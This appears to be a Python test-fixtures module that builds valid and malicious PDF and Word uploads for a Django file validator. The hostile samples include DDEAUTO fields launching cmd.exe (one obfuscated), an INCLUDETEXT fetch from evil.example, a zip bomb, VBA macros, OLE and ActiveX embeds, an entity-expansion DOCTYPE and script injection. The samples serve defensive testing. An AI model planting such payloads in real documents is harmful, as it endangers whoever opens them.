"""Files to upload in tests: real minimal PDFs and .docx packages, and the bad ones people send."""

import io
import zipfile

from django.core.files.uploadedfile import SimpleUploadedFile

DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"


def pdf_document(objects, *, root=1, padding=0, version=b"1.7", comment=b""):
    """A well-formed PDF: `objects[n - 1]` is the body of object n, followed by a cross-reference
    table that a strict reader (qpdf) accepts. `padding` adds that many bytes of comment before the
    table; the start offset is written at a fixed width, so the size grows by exactly `padding`."""
    out = bytearray(b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n")
    if comment:
        out += b"%" + comment + b"\n"
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    if padding:
        out += b"%" * (padding - 1) + b"\n"
    return bytes(out + xref_section(offsets, size=len(objects) + 1, root=root, at=len(out)))


def xref_section(offsets, *, size, root, at, first=1, prev=None):
    """A cross-reference table for objects first..first+len(offsets)-1 at `at`, with its trailer."""
    table = b"xref\n0 1\n0000000000 65535 f \n%d %d\n" % (first, len(offsets))
    table += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    trailer = b"/Size %d /Root %d 0 R" % (size, root) + (b" /Prev %d" % prev if prev is not None else b"")
    return table + b"trailer\n<< " + trailer + b" >>\nstartxref\n%010d\n%%%%EOF\n" % at


def pdf_page_objects(text):
    content = b"BT /F1 12 Tf 72 720 Td (" + text.encode("latin-1") + b") Tj ET"
    return [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]


def pdf_bytes(text="Health advice for the EHC needs assessment", padding=0, comment=b""):
    """A one-page PDF with a line of text; `padding` makes it exactly that many bytes bigger."""
    return pdf_document(pdf_page_objects(text), padding=padding, version=b"1.4", comment=comment)


def _content_types(main=DOCX_MAIN, extra=""):
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/>{extra}</Types>'
    )


def docx_bytes(*, main=DOCX_MAIN, extra_types="", extra_entries=None, text="Speech and language advice", body=None):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _content_types(main, extra_types))
        archive.writestr(
            "_rels/.rels",
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'officeDocument" Target="word/document.xml"/></Relationships>',
        )
        archive.writestr(
            "word/document.xml",
            '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
            'xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:v="urn:schemas-microsoft-com:vml">'
            f"<w:body>{body or f'<w:p><w:r><w:t>{text}</w:t></w:r></w:p>'}</w:body></w:document>",
        )
        for name, data in (extra_entries or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


def docx_with_macros():
    """A .docm renamed to .docx: the macro content type and the VBA project inside."""
    return docx_bytes(
        main=DOCM_MAIN,
        extra_types=(
            '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        ),
        extra_entries={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\x00" * 512},
    )


def docx_zip_bomb(megabytes=60):
    """A valid-looking .docx with one entry inflating to `megabytes` of zeros (tens of KB packed)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", _content_types())
        archive.writestr("word/document.xml", "<w:document/>")
        with archive.open("word/media/padding.xml", "w") as handle:
            chunk = b"\x00" * (1024 * 1024)
            for _ in range(megabytes):
                handle.write(chunk)
    return buffer.getvalue()


def docx_many_entries(count=1200):
    entries = {f"word/parts/part{n}.xml": "<x/>" for n in range(count)}
    return docx_bytes(extra_entries=entries)


REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def _document_rels(*relationships):
    return {
        "word/_rels/document.xml.rels": '<?xml version="1.0"?><Relationships '
        'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' + "".join(relationships)
        + "</Relationships>"
    }


def docx_dde_simple_field():
    """DDEAUTO in a simple field, with one letter written as a character reference."""
    return docx_bytes(
        body='<w:p><w:fldSimple w:instr=" &#68;DEAUTO c:\\windows\\system32\\cmd.exe &quot;/k calc&quot; ">'
        "<w:r><w:t>Advice</w:t></w:r></w:fldSimple></w:p>"
    )


def docx_dde_complex_field():
    """DDEAUTO in a complex field, its instruction split over three runs as Word may write it."""
    return docx_bytes(
        body='<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r>'
        '<w:r><w:instrText>EAUTO c:\\windows\\system32\\cmd.exe </w:instrText></w:r>'
        '<w:r><w:instrText>"/k calc"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Advice</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def docx_include_field():
    """A field that pulls text from a file on another machine when the document is updated."""
    return docx_bytes(
        body='<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;\\\\evil.example\\share\\x.docx&quot; ">'
        "<w:r><w:t>Advice</w:t></w:r></w:fldSimple></w:p>"
    )


def docx_ole_package():
    """An embedded OLE package (a program wrapped in an icon), as Insert > Object makes."""
    return docx_bytes(
        body='<w:p><w:r><w:object><v:shape id="s1"/><o:OLEObject Type="Embed" ProgID="Package" '
        'ShapeID="s1" r:id="rId9"/></w:object></w:r></w:p>',
        extra_types='<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>',
        extra_entries={
            **_document_rels(f'<Relationship Id="rId9" Type="{REL}oleObject" Target="embeddings/oleObject1.bin"/>'),
            "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 256,
        },
    )


def docx_alt_chunk():
    """altChunk: Word imports another document (here HTML) into this one when it opens it."""
    return docx_bytes(
        body='<w:altChunk r:id="rId9"/><w:p><w:r><w:t>Advice</w:t></w:r></w:p>',
        extra_types='<Default Extension="htm" ContentType="text/html"/>',
        extra_entries={
            **_document_rels(f'<Relationship Id="rId9" Type="{REL}aFChunk" Target="afchunk.htm"/>'),
            "word/afchunk.htm": "<html><body><script>alert(1)</script></body></html>",
        },
    )


def docx_activex_control():
    """An ActiveX control part, related from the document, content type not declared."""
    return docx_bytes(
        body='<w:p><w:r><w:object><w:control r:id="rId9" w:name="Button1"/></w:object></w:r></w:p>',
        extra_entries={
            **_document_rels(f'<Relationship Id="rId9" Type="{REL}control" Target="activeX/activeX1.xml"/>'),
            "word/activeX/activeX1.xml": "<ax:ocx xmlns:ax='http://schemas.microsoft.com/office/2006/activeX'/>",
            "word/activeX/activeX1.bin": b"\x00" * 64,
        },
    )


def docx_with_doctype():
    """An entity declaration in the main part: refused before any XML parser could expand it."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(docx_bytes_io(), "r") as source, zipfile.ZipFile(buffer, "w") as archive:
        for entry in source.infolist():
            data = source.read(entry.filename)
            if entry.filename == "word/document.xml":
                data = data.replace(
                    b"<w:document", b'<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]><w:document', 1
                )
            archive.writestr(entry.filename, data)
    return buffer.getvalue()


def docx_bytes_io():
    return io.BytesIO(docx_bytes())


HTML_BYTES = b"<!DOCTYPE html><html><body><script>alert('hi')</script></body></html>"


def upload(name, content, content_type="application/octet-stream"):
    return SimpleUploadedFile(name, content, content_type=content_type)
